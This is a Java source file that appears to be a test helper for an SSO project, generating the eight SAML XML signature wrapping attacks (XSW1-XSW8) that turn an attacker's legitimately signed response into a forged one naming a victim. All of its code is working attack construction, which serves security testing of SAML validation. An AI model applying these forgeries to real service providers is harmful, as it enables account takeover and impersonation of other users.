package dev.roster.sso;

import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.Node;

/**
 * The eight XML signature wrapping attacks (XSW1-XSW8, after Somorovsky et al., "On Breaking SAML", 2012, as SAML Raider
 * names them) applied to a response the IdP really signed for the attacker: each moves the signed element out of
 * the place the application reads and puts an unsigned copy naming the victim there.
 */
final class SignatureWrapping {

    static final String SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol";
    static final String SAML = "urn:oasis:names:tc:SAML:2.0:assertion";
    static final String DS = "http://www.w3.org/2000/09/xmldsig#";

    private SignatureWrapping() {
    }

    /** Applies attack {@code n} to the signed response XML; {@code attacker} is replaced by {@code victim}. */
    static String apply(int n, String signedXml, String attacker, String victim) {
        Document doc = TestIdp.parse(signedXml);
        Element response = doc.getDocumentElement();
        Element assertion = child(response, SAML, "Assertion");
        switch (n) {
            case 1, 2 -> {
                // Response signature: the evil response becomes the root; the signed original hides inside (1) or
                // beside (2) the signature, where the signature's reference still finds it.
                Element signature = child(response, DS, "Signature");
                Element evil = (Element) response.cloneNode(true);
                evil.removeChild(child(evil, DS, "Signature"));
                evil.setAttribute("ID", "_evil" + n);
                retarget(child(evil, SAML, "Assertion"), attacker, victim);
                Element movedSignature = (Element) signature.cloneNode(true);
                Element original = (Element) response.cloneNode(true);
                original.removeChild(child(original, DS, "Signature"));
                Node afterIssuer = child(evil, SAML, "Issuer").getNextSibling();
                evil.insertBefore(movedSignature, afterIssuer);
                if (n == 1) {
                    movedSignature.appendChild(original);
                }
                else {
                    evil.insertBefore(original, movedSignature);
                }
                doc.replaceChild(evil, response);
            }
            case 3 -> {
                // An unsigned evil assertion before the signed one.
                Element evil = unsignedCopy(assertion, "_evil3", attacker, victim);
                response.insertBefore(evil, assertion);
            }
            case 4 -> {
                // The evil assertion wraps the signed one.
                Element evil = unsignedCopy(assertion, "_evil4", attacker, victim);
                response.replaceChild(evil, assertion);
                evil.appendChild(assertion);
            }
            case 5 -> {
                // The signed assertion is changed in place (its signature kept); an unsigned copy of the original
                // sits at the end of the message.
                Element copy = (Element) assertion.cloneNode(true);
                copy.removeChild(child(copy, DS, "Signature"));
                retarget(assertion, attacker, victim);
                response.appendChild(copy);
            }
            case 6 -> {
                // The evil assertion carries the signature, and the signed original is nested in it.
                Element evil = (Element) assertion.cloneNode(true);
                retarget(evil, attacker, victim);
                evil.setAttribute("ID", "_evil6");
                Element evilSignature = child(evil, DS, "Signature");
                Element original = (Element) assertion.cloneNode(true);
                original.removeChild(child(original, DS, "Signature"));
                evilSignature.appendChild(original);
                response.replaceChild(evil, assertion);
            }
            case 7 -> {
                // The signed assertion moves into an Extensions element; an unsigned evil one takes its place.
                Element extensions = doc.createElementNS(SAMLP, "samlp:Extensions");
                Element evil = unsignedCopy(assertion, "_evil7", attacker, victim);
                response.replaceChild(evil, assertion);
                extensions.appendChild(assertion);
                response.insertBefore(extensions, child(response, SAML, "Issuer").getNextSibling());
            }
            case 8 -> {
                // The evil assertion keeps the signature; inside it, a ds:Object holds the original without its
                // signature, which is what the reference resolves to.
                Element evil = (Element) assertion.cloneNode(true);
                retarget(evil, attacker, victim);
                Element evilSignature = child(evil, DS, "Signature");
                Element object = doc.createElementNS(DS, "ds:Object");
                Element original = (Element) assertion.cloneNode(true);
                original.removeChild(child(original, DS, "Signature"));
                object.appendChild(original);
                evilSignature.appendChild(object);
                response.replaceChild(evil, assertion);
            }
            default -> throw new IllegalArgumentException("XSW" + n);
        }
        return TestIdp.serialize(doc);
    }

    private static Element unsignedCopy(Element assertion, String id, String attacker, String victim) {
        Element evil = (Element) assertion.cloneNode(true);
        evil.removeChild(child(evil, DS, "Signature"));
        evil.setAttribute("ID", id);
        retarget(evil, attacker, victim);
        return evil;
    }

    /** Replaces the attacker's address by the victim's in every text node under the element. */
    static void retarget(Node node, String attacker, String victim) {
        for (Node child = node.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child.getNodeType() == Node.TEXT_NODE && child.getNodeValue().contains(attacker)) {
                child.setNodeValue(child.getNodeValue().replace(attacker, victim));
            }
            else if (child.getNodeType() == Node.ELEMENT_NODE) {
                retarget(child, attacker, victim);
            }
        }
    }

    static Element child(Element parent, String ns, String local) {
        for (Node child = parent.getFirstChild(); child != null; child = child.getNextSibling()) {
            if (child instanceof Element e && ns.equals(e.getNamespaceURI()) && local.equals(e.getLocalName())) {
                return e;
            }
        }
        throw new IllegalStateException("no " + local + " in " + parent.getLocalName());
    }
}
